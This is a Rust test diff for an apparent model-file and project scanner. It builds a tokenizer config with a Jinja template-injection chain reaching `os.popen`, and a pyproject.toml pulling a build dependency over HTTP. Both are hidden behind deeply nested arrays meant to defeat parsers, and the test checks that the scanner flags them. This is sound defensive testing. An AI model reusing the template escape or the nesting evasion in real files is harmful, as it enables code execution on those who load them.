@@ -628,3 +628,47 @@ fn escape_steps_in_attribute_paths_and_format_fields_are_found() {
         assert_eq!(graded(t), vec![], "{t}");
     }
 }
+
+/// A tokenizer config padded with an array nested past serde_json's 128 levels (Python's
+/// `json` reads it) is read for its shallow keys: the template beside the pad is judged, and
+/// the pad is a low `resource-limit` (tester t22 e_tok129). The same pad in a `pyproject.toml`
+/// past the `toml` crate's 80 levels does not hide a build requirement over HTTP.
+#[test]
+fn a_deep_dummy_value_does_not_hide_the_keys_beside_it() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let pad = format!("{}1{}", "[".repeat(200), "]".repeat(200));
+    let json = format!(
+        "{{\"pad\": {pad}, \"chat_template\": \"{{{{ cycler.__init__.__globals__.os.popen('echo airlock-test').read() }}}}\"}}"
+    );
+    let p = dir.path().join("tokenizer_config.json");
+    std::fs::write(&p, json).expect("write");
+    let r = scan_file(&p, BudgetLimits::default());
+    assert!(
+        r.worst().is_some_and(|w| w >= Severity::High),
+        "{:?}",
+        r.findings
+            .iter()
+            .map(|f| (f.rule.id, f.severity))
+            .collect::<Vec<_>>()
+    );
+    assert!(r
+        .findings
+        .iter()
+        .any(|f| f.rule.id == "resource-limit" && f.severity == Severity::Low));
+    let toml = format!(
+        "[build-system]\nrequires = [\"helper @ http://pkgs.example.invalid/helper-1.0.tar.gz\"]\n[tool.pad]\nx = {pad}\n"
+    );
+    let p = dir.path().join("pyproject.toml");
+    std::fs::write(&p, toml).expect("write");
+    let r = scan_file(&p, BudgetLimits::default());
+    assert!(
+        r.findings
+            .iter()
+            .any(|f| f.rule.id == "requirements-extra-index" && f.severity == Severity::Medium),
+        "{:?}",
+        r.findings
+            .iter()
+            .map(|f| (f.rule.id, f.severity))
+            .collect::<Vec<_>>()
+    );
+}
